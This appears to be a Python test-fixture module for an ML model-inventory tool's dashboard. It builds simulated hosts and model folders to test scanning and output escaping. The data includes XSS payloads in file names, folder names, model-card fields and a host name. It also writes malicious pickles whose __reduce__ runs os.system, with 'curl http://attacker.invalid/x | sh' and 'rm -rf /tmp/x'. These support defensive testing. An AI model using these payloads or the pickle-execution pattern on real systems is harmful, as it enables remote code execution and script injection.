"""A fleet inventory for the dashboard tests: real files, the real inventory pipeline, three simulated hosts.

Files are written by the real libraries (the committed tiny GPT-2 from ``transformers``' ``save_pretrained``,
``pickle.dumps`` for the malicious checkpoints); the inventory is the real :func:`mlvet.inventory.discover
.inventory` scanning them, recorded with :meth:`mlvet.store.Store.record_run` and the real change tracking.
Only the host name and the run times are set by the test, because three machines and a week cannot be had
on one loopback. Nothing written here is ever loaded.

The ``hostile`` tree carries XSS payloads in every place scanned text reaches a page: a folder name (the
asset name), file names, the model card's license and base model, the finding evidence (the pickled
command) and a host name.
"""

from __future__ import annotations

import dataclasses
import os
import pickle
import shutil
import socket
from datetime import datetime, timedelta, timezone
from pathlib import Path

from mlvet.inventory.changes import compute_changes
from mlvet.inventory.discover import inventory
from mlvet.inventory.model import Asset, InventoryRun
from mlvet.store import Store

ASSETS = Path(__file__).resolve().parents[1] / "assets"
GPT2 = ASSETS / "hf" / "tiny-gpt2"

#: Payloads: each would set ``window.__xss`` if it reached a page as markup.
SCRIPT = "<script>window.__xss=1</script>"
IMG = '"><img src=x onerror="window.__xss=2">'
SVG = "<svg onload=window.__xss=3>"
IFRAME = "'><iframe srcdoc=\"<script>parent.__xss=4</script>\"></iframe>"
HOSTILE_HOST = "<b onmouseover=window.__xss=5>evil-host</b>"
#: Strings each page must show as text (what the browser test looks for in the rendered page's text).
VISIBLE = {"folder": f"model {SVG}", "file": f"{IMG}.pkl", "evidence": SCRIPT, "host": HOSTILE_HOST}

HOSTS = ("lab-gpu-01", "laptop-ana", HOSTILE_HOST)


class _Exploit:
    """Pickles as a call of ``os.system`` with the given command (what a trojaned checkpoint does)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (self.command,))


def _gpt2(folder: Path, license_text: str = "apache-2.0", base_model: str = "openai-community/gpt2") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for f in GPT2.iterdir():
        if f.is_file():
            shutil.copyfile(f, folder / f.name)
    (folder / "README.md").write_text(
        f"---\nlicense: {license_text!r}\nbase_model: {base_model!r}\ndatasets:\n- acme/reviews\n"
        "pipeline_tag: text-generation\nlibrary_name: transformers\n---\n# tiny\n\n## Intended uses\nTests.\n",
        encoding="utf-8")
    return folder


def write_pickle_exploit(path: Path, command: str) -> Path:
    """Write a pickle that would run ``command`` through ``os.system`` if loaded (it never is)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(pickle.dumps(_Exploit(command), protocol=2))
    return path


def build_trees(root: Path) -> dict[str, Path]:
    """The folders each host inventories (created fresh under ``root``)."""
    shared = root / "shared-models"
    _gpt2(shared / "tiny-gpt2")
    write_pickle_exploit(shared / "checkpoints" / "trojan.pt", "curl http://attacker.invalid/x | sh")
    _gpt2(root / "local-models" / "gpt2-local")
    hostile = root / "hostile"
    _gpt2(hostile / f"model {SVG}", license_text=SCRIPT, base_model=IFRAME)
    write_pickle_exploit(hostile / "drop" / f"{IMG}.pkl", f"echo {SCRIPT} {IFRAME}")
    return {"shared": shared, "hostile": hostile, "local": root / "local-models"}


def _record(store: Store, roots: list[Path], host: str, finished: datetime) -> tuple[InventoryRun, list[Asset]]:
    run, assets = inventory([str(r) for r in roots], store=store)
    run = dataclasses.replace(run, host=host, started_at=finished - timedelta(seconds=5), finished_at=finished)
    previous: list[Asset] = []
    for old in store.runs(limit=200):  # this host's previous run over the same roots
        if old.host == host and old.roots == run.roots and old.id is not None:
            previous = store.assets_of_run(old.id)
            break
    recorded = store.record_run(run, assets, compute_changes(previous, assets))
    return recorded, assets


def build_fleet(db_url: str, root: Path, now: datetime | None = None) -> dict[str, object]:
    """Record a week of runs from three hosts into ``db_url``; returns what the tests assert against.

    * lab-gpu-01 inventories the shared tree 5 days ago (clean GPT-2 + trojan) and again today after the
      GPT-2 weights changed and a second trojan appeared (changed, new);
    * laptop-ana inventories the same shared tree today (the same assets on a second host);
    * the hostile host inventories the hostile tree 2 days ago;
    * this machine (its real host name) inventories a local copy of the GPT-2 half an hour ago.
    """
    now = now or datetime.now(timezone.utc)
    trees = build_trees(root)
    with Store(db_url) as store:
        first, _ = _record(store, [trees["shared"]], HOSTS[0], now - timedelta(days=5))
        _record(store, [trees["hostile"]], HOSTS[2], now - timedelta(days=2))
        # The weights change (appended bytes) and a second malicious checkpoint arrives.
        with open(trees["shared"] / "tiny-gpt2" / "model.safetensors", "ab") as fh:
            fh.write(b" ")
        write_pickle_exploit(trees["shared"] / "checkpoints" / "second.pkl", "rm -rf /tmp/x")
        second, assets = _record(store, [trees["shared"]], HOSTS[0], now - timedelta(hours=2))
        third, _ = _record(store, [trees["shared"]], HOSTS[1], now - timedelta(hours=1))
        # This machine's own inventory: its report cards are computed on the files themselves.
        _local, local_assets = _record(store, [trees["local"]], socket.gethostname(), now - timedelta(minutes=30))
        changes = store.changes_of_run(second.id or 0)
        hostile_run = next(r for r in store.runs(limit=10) if r.host == HOSTS[2])
        hostile_assets = store.assets_of_run(hostile_run.id or 0)
    return {"trees": trees, "first": first, "second": second, "third": third, "changes": changes,
            "shared_assets": assets, "hostile_assets": hostile_assets, "local_assets": local_assets}


def pythonpath_env() -> str:
    """``PYTHONPATH`` with every entry absolute (the server runs in another folder; ``src`` must stay this tree).

    Lives here, not in conftest.py: under pytest-xdist ``from conftest import ...`` finds whichever test
    folder's conftest module was imported first.
    """
    parts = [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]
    src = str(Path(__file__).resolve().parents[2] / "src")
    return os.pathsep.join(dict.fromkeys([src, *(os.path.abspath(p) for p in parts)]))
